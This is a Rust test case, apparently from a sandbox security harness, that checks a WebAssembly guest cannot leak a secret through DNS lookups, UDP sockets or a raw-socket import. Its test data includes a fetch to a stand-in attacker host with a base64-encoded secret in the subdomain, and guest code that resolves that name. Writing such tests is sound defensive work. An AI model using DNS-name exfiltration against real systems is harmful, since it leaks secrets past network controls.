//! A name that is looked up is a message to whoever serves it. Names are looked up for allowed hosts
//! alone, and there are no datagrams at all.

use crate::guests;
use crate::harness::{Attack, Case};
use crate::servers::{DEFAULT, fetch};
use serde_json::json;

pub(crate) const CASE: Case = Case {
    id: "N41",
    attack: "Secrets in names that are looked up; UDP sockets; imports for ICMP",
    expect: &["denied", "failed"],
    run,
    ..Case::DEFAULT
};

fn run(attack: &mut Attack) {
    // A name without a chance is refused for the rule, not for having no address.
    let url = "http://c2VjcmV0.evil.invalid/";
    let call = fetch(attack, url, &["http://localhost:*"], DEFAULT);
    let outcome = attack.attempt(call);
    assert!(
        outcome.message().contains("allowed_outbound_hosts"),
        "{outcome:#?}"
    );
    // Each says 1 for an error: no resolver, no datagrams, whatever is allowed for HTTP.
    let sockets = guests::command(
        r#"(data (i32.const 2048) "c2VjcmV0.evil.invalid") ---
        (call $resolve (call $network) (i32.const 2048) (i32.const 21) (i32.const 128))
        (i32.store8 (i32.const 3072) (i32.add (i32.const 48) (i32.load8_u (i32.const 128))))
        (call $udp (i32.const 0) (i32.const 128))
        (i32.store8 (i32.const 3073) (i32.add (i32.const 48) (i32.load8_u (i32.const 128))))
        (call $udp (i32.const 1) (i32.const 128))
        (i32.store8 (i32.const 3074) (i32.add (i32.const 48) (i32.load8_u (i32.const 128))))
        (call $print (call $stdout) (i32.const 3072) (i32.const 3)) (i32.const 0)"#,
    );
    for hosts in [&[][..], &["http://localhost:*"]] {
        let call = attack
            .guest(&sockets, json!({}))
            .option("--set", "allow=**");
        let call = hosts
            .iter()
            .fold(call, |call, host| call.option("--allow-host", host));
        assert_eq!(attack.control(call).output(), "111");
    }
    let raw = r#"(module (import "env" "raw_socket" (func (param i32) (result i32)))
        (memory (export "memory") 1) (func (export "_start")))"#;
    let call = attack.guest(&wat::parse_str(raw).unwrap(), json!({}));
    assert_eq!(attack.attempt(call).label, "failed");
}
